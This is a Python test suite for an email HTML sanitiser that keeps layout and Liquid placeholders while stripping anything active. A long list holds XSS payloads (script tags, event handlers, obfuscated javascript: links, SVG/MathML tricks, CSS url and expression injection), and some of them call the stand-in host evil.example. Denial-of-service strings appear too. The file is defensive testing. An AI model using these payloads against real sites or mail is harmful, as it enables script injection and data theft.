"""The one sanitiser: the author's layout survives, whatever acts does not, and Liquid comes through untouched."""

import contextlib
import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from domain.message.language import chunks
from domain.message.merge import parse
from domain.message.sanitize import (
    ALLOWED,
    ANYWHERE,
    ATTRIBUTES,
    UnsafeHtml,
    clean_html,
    harden,
    html_from_text,
    text_from_html,
)

pytestmark = pytest.mark.thorough

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script\n>alert(1)</script\t\n bar>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' ONERROR='alert(1)'>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=javascript:alert(1)>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=//evil.example/pixel.png>",
    "<img src='file:///etc/passwd'>",
    "<img srcset='https://evil.example/a 1x' src=x>",
    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='javascript&#0000058alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://x/y'>x</a>",
    "<a href='x' onclick=alert(1) onmouseover='alert(1)'>x</a>",
    "<a href='x' style='position:fixed;inset:0;z-index:9'>x</a>",
    "<a target=_top ping='https://evil.example' href='https://x.example'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>x",
    "<body background='javascript:alert(1)'>x</body>",
    "<body style='background:url(javascript:alert(1))' onload=x()>x</body>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!doctype html [<!entity x '<script>alert(1)</script>'>]>x",
    "</ script><img src=x onerror=alert(1)>",
    "</1><!x><img src=x onerror=alert(1)>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='background:URL(https://evil.example/p.png)'>x</p>",
    "<p style='background:\\75rl(https://evil.example/p.png)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
    "<p style='color:red;background-image:image-set(\"https://evil.example/x\" 1x)'>x</p>",
    "<p style='font:1px/1 \"</style><script>alert(1)</script>\"'>x</p>",
    "<style>@import 'https://evil.example/x.css';</style><p>x</p>",
    "<style>p{background:url(https://evil.example/p.png)}</style><p>x</p>",
    "<style>@media screen{p{background:url(https://evil.example/p.png)}}</style><p>x</p>",
    "<style>@media screen{</style><img src=x onerror=alert(1)>}</style>",
    "<style>@media x{a[b='</style><script>alert(1)</script>']{color:red}}</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>",
    "<table background='javascript:alert(1)'><tr><td background=https://evil.example/x.png>x</table>",
    "<div id='x' class='y' data-x='z' contenteditable onbeforeinput=alert(1)>x</div>",
    "<x onclick=alert(1)>x</x>",
    "<a href='https://x.example/\"onmouseover=alert(1) x=\"'>x</a>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<<script>alert(1)//<</script>",
    "<a<script>alert(1)</script>",
    "<p/onclick=alert(1)>x</p>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=https://x.example/a.png alt='{{ firstName }}' onload='{{ firstName }}'>",
    "<p>{{ firstName }}<script>{{ firstName }}</script></p>",
    "<a href='{{ \"javascript:alert(1)\" }}'>x</a>",
]


class Judge(HTMLParser):
    """A second reader, independent of the one that cleaned: lists whatever is not on the list."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.complaints: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.complaints.append(f"tag {tag}")
        for name, value in attrs:
            self._judge(tag, name, re.sub(r"[\x00-\x20]+", "", value or "").lower())

    def _judge(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name not in ANYWHERE | set(ATTRIBUTES.get(tag, ())):
            self.complaints.append(f"attribute {name}")
        if name in ("href", "src") and re.match(r"(?!https?:|mailto:|tel:)[^/?#{]*:", value):
            self.complaints.append(f"address {value}")
        if name == "src" and not value.startswith(("https:", "http:", "{{")):
            self.complaints.append(f"picture {value}")
        if name == "style" and re.search(
            r"url|expression|script|import|behavior|position|\\|image-set", value
        ):
            self.complaints.append(f"style {value}")

    def handle_decl(self, decl: str) -> None:
        self.complaints.append(f"declaration {decl}")

    def handle_comment(self, data: str) -> None:
        self.complaints.append(f"comment {data}")

    def unknown_decl(self, data: str) -> None:
        self.complaints.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.complaints.append(f"instruction {data}")


def complaints(clean: str) -> list[str]:
    """What the second reader says, after the one style block that is ours and holds no address."""
    block = re.match(r"<style>([^<]*)</style>", clean)
    if block and re.search(r"url|expression|@import|@font|\\", block[1]):
        return [f"style block {block[1]}"]
    return Judge(clean[block.end() :] if block else clean).complaints


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize(
    "around", ["{}", "<table><tr><td>{}</td></tr></table>", "<div title='a'>{}", "{{{{ firstName }}}}{}"]
)
def test_nothing_that_acts_survives(payload: str, around: str) -> None:
    try:
        clean = clean_html(around.format(payload))
    except UnsafeHtml:
        return
    assert complaints(clean) == []
    assert clean_html(clean) == clean, "cleaning twice must change nothing"
    rendered = parse(harden(clean), part="Message").render({"firstName": "<script>\"'"}, escape="html")
    assert complaints(rendered) == []


def test_the_second_reader_can_complain() -> None:
    bad = "<script>x</script><a href='javascript:x' onclick=y style='color:url(x)'><!--c--><img src=data:x>"
    assert len(Judge(bad).complaints) >= 6


@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "{{ firstName }}", "{% if a < b %}", "{% endif %}", "<p>", "</td>", "{", "%}"]
        )
    )
)
@settings(max_examples=150, deadline=None)
def test_no_mixture_of_payloads_survives(parts: list[str]) -> None:
    try:
        clean = clean_html("".join(parts))
    except UnsafeHtml:
        return
    assert complaints(clean) == []


def test_an_ordinary_mail_comes_through() -> None:
    mail = (
        '<table role="presentation" width="100%" cellpadding="0" style="border-collapse:collapse"><tbody><tr>'
        '<td align="center" style="padding:12px 24px;background-color:#fff;mso-line-height-rule:exactly">'
        '<a href="https://shop.example/a?b=1&amp;c=2" style="color:#7a5c2e;text-decoration:none">See it</a>'
        '<img src="https://shop.example/r.png" alt="A ring" width="560"> <a href="mailto:a@b.example">Write</a>'
        ' <a href="tel:+44123">Ring</a></td></tr></tbody></table>'
    )
    assert clean_html(mail) == mail


def test_a_pasted_document_becomes_its_body_with_styles_inline() -> None:
    clean = clean_html(
        "<!doctype html><html><head><title>Hidden title</title><style>.price{color:red;position:absolute}"
        "@media (max-width:600px){.price{width:100%!important}}</style></head>"
        "<body style='background:#eee' onload=x()><p class=price>Only today</p></body></html>"
    )
    assert clean == (
        "<style>@media (max-width:600px){.price{width:100%!important}}</style>"
        '<div style="background:#eee"><p class="price" style="color:red">Only today</p></div>'
    )


def test_words_of_scripts_and_styles_do_not_stay_behind() -> None:
    clean = clean_html(
        "<p>a</p><script>var hidden=1</script><style>p{color:red}</style><!-- hidden --><title>hidden</title>"
    )
    assert "hidden" not in clean
    assert "{" not in clean


@pytest.mark.parametrize(
    "source",
    [
        "{% if a < b %}x{% else %}y{% endif %}",
        '<a href="{{ unsubscribeUrl }}">bye</a>',
        '<a href="https://x.example/{{ attrs.code }}?a=1&amp;b={{ firstName | url_encode }}">x</a>',
        '<p>{{ firstName | default: "a > b & c" }}</p>',
        "<table><tbody>{% for r in attrs.rings %}<tr><td>{{ r }}</td></tr>{% endfor %}</tbody></table>",
        '<img src="{{ attrs.photo }}" alt="{{ firstName }}">',
    ],
)
def test_liquid_comes_through_untouched(source: str) -> None:
    assert clean_html(source) == source


@pytest.mark.parametrize(
    "source",
    [
        "<{{ firstName }}>x",
        "</{{ firstName }}>",
        "<a {{ firstName }}>x</a>",
        "<a {{ firstName }}='x'>x</a>",
        '<a {% if x %}href="https://x.example"{% endif %}>x</a>',
        "{{ '<script>alert(1)</script>' }}",
        "{% raw %}{{ <script>alert(1)</script> }}{% endraw %}",
        "{<x></x>% raw %}<p>{<x></x>% endraw %}",
        "{<x></x>{ firstName }}",
        '<p title="{{ \'" onclick="\' }}">x</p>',
        "<style>p{color:{{ firstName }}}</style><p>x</p>",
        "x" * 500_001,
        "{{ a }}" * 2_001,
    ],
)
def test_liquid_where_it_could_become_markup_is_refused_with_a_sentence(source: str) -> None:
    with pytest.raises(UnsafeHtml) as caught:
        clean_html(source)
    assert caught.value.sentence.endswith(".")


@pytest.mark.parametrize(
    ("markup", "value", "link"),
    [
        ('<a href="{{ attrs.v }}">x</a>', "https://shop.example/a?b=c%20d", "https://shop.example/a?b=c%20d"),
        ('<a href="{{ attrs.v }}">x</a>', "javascript:alert(1)", "#"),
        ('<a href="{{ attrs.v }}">x</a>', " \tJava\nScript:alert(1)", "#"),
        ('<a href="{{ attrs.v }}">x</a>', "data:text/html,x", "#"),
        ('<a href="{{ attrs.v }}">x</a>', '" onclick="alert(1)', "%22%20onclick=%22alert(1)"),
        ('<a href="java{{ attrs.v }}">x</a>', "script:alert(1)", "java#"),
        ("<a href=\"{{ 'javascript' }}{{ attrs.v }}\">x</a>", ":alert(1)", "javascript#"),
        ('<a href="{% if attrs.v %}{{ attrs.v }}{% endif %}">x</a>', "javascript:alert(1)", "#"),
        (
            '<a href="https://x.example/?n={{ attrs.v }}">x</a>',
            "Zoë & Co: 5",
            "https://x.example/?n=Zo%C3%AB%20&amp;%20Co:%205",
        ),
    ],
)
def test_a_value_in_a_link_can_lead_only_to_the_web_a_mailbox_or_a_phone(
    markup: str, value: str, link: str
) -> None:
    hardened = harden(clean_html(markup))
    rendered = parse(hardened, part="Message").render({"attrs": {"v": value}}, escape="html")
    assert rendered == f'<a href="{link}">x</a>'


def test_a_value_in_a_style_opens_no_new_declaration() -> None:
    hardened = harden(clean_html('<p style="color:{{ attrs.v }}">x</p>'))
    rendered = parse(hardened, part="M").render(
        {"attrs": {"v": "red;background:url(//evil.example)"}}, escape="html"
    )
    assert rendered == '<p style="color:redbackgroundurlevil.example">x</p>'


def test_the_text_part_reads_like_the_mail() -> None:
    text = text_from_html(
        clean_html(
            "<style>@media (max-width:1px){p{color:red}}</style><h1>Autumn &amp; co</h1>"
            "<table><tr><td><p>Dear {{ firstName }},<br>a <b>new</b> ring.</p></td></tr><tr><td>"
            '<a href="https://shop.example/a_b?c=1&amp;d=2">See the piece</a></td></tr></table>'
            "<ul><li>Gold</li><li>Silver</li></ul><img src='https://x.example/r.png' alt='A ring'>"
            '<p><a href="{{ unsubscribeUrl }}">Leave</a> <a href="https://x.example">https://x.example</a></p>'
            '<a href="mailto:olive@shop.example">Write to us</a>'
        )
    )
    assert re.sub(r"\n+", "\n", text).split("\n") == [
        "Autumn & co",
        "Dear {{ firstName }},",
        "a new ring.",
        "See the piece: https://shop.example/a_b?c=1&d=2",
        "- Gold",
        "- Silver",
        "A ring",
        "Leave: {{ unsubscribeUrl }} https://x.example",
        "Write to us: olive@shop.example",
    ]


def test_entities_cannot_become_liquid_in_the_text_part() -> None:
    text = text_from_html(clean_html("<p>&#123;&#123; email &#125;&#125; &#123;% if x %&#125;</p>"))
    assert list(chunks(text)) == []
    assert "email" in text


def test_plain_words_become_paragraphs_with_live_links() -> None:
    assert html_from_text(
        "Dear {{ firstName }} <b>,\n\nsee https://x.example/{{ attrs.a }}?b=1&c=2.\nOlive\n"
    ) == (
        "<p>Dear {{ firstName }} &lt;b&gt;,</p>\n"
        '<p>see <a href="https://x.example/{{ attrs.a }}?b=1&amp;c=2">https://x.example/{{ attrs.a }}?b=1&amp;c=2</a>.<br>\nOlive</p>'
    )


@given(st.text(max_size=300))
@settings(max_examples=200, deadline=None)
def test_any_words_make_safe_html(words: str) -> None:
    try:
        made = html_from_text(words)
    except UnsafeHtml:
        return
    assert Judge(made).complaints == []


@pytest.mark.parametrize(
    "attack",
    ['<a "' * 20_000, "<" * 100_000, "<!--" * 25_000, "<p " * 30_000, "{{" * 50_000, "{%" * 20_000, "<style>" * 10_000,
     "<script>" * 10_000, "<body " * 15_000, "<b>" * 20_000, "[" * 100_000, "<a href='x'>" * 5_000,
     "<script " * 12_000, "<head>" * 15_000, "{{ a" * 20_000 + "}}", "<a title=\"" * 9_000 + "{{ a }}"],
)  # fmt: skip
def test_no_input_takes_long(attack: str) -> None:
    start = time.thread_time()
    with contextlib.suppress(UnsafeHtml):
        text_from_html(clean_html(attack))
    assert time.thread_time() - start < 10, "about two seconds are usual"
